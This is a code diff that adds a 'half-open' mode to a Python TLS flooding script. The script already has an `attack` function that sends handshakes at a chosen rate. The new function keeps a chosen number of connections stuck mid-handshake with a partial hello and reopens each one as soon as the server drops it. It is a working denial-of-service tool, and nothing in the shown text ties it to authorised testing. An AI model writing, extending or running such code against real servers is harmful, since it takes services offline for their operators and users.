@@ -3,10 +3,13 @@
 strangers.py KIND CONNECTION_FILE TIMES_A_SECOND
 
 KIND is the group of the key in a TLS hello (x25519, prime256v1, secp384r1), or chains-of-COUNT:
-complete handshakes with this many certificates."""
+complete handshakes with this many certificates.
+
+strangers.py half-open HOST:PORT COUNT keeps so many handshakes half open, again and again."""
 import collections
 import json
 import pathlib
+import select
 import socket
 import ssl
 import subprocess
@@ -90,5 +93,35 @@ def attack(kind, address, times_a_second):
         time.sleep(max(0, due - time.perf_counter()))
 
 
+def stay_half_open(address, count):
+    """A peer that the server closes connects again at once."""
+    hello = hello_with("x25519")
+    half = hello + hello[:len(hello) // 2]
+    peers, poller = {}, select.epoll()
+    while True:
+        while len(peers) < count:
+            peer = socket.socket()
+            peer.setblocking(False)
+            peer.connect_ex(address)
+            peers[peer.fileno()] = peer
+            poller.register(peer, select.EPOLLIN | select.EPOLLOUT)
+        for number, events in poller.poll():
+            peer = peers[number]
+            try:
+                if events & select.EPOLLOUT:
+                    peer.send(half)
+                    poller.modify(peer, select.EPOLLIN)
+                elif not peer.recv(65536):
+                    raise ConnectionError
+            except BlockingIOError:
+                pass
+            except OSError:
+                poller.unregister(peer)
+                peers.pop(number).close()
+
+
 if __name__ == "__main__":
+    if sys.argv[1] == "half-open":
+        host, port = sys.argv[2].rsplit(":", 1)
+        stay_half_open((host, int(port)), int(sys.argv[3]))
     attack(sys.argv[1], address_in(sys.argv[2]), float(sys.argv[3]))
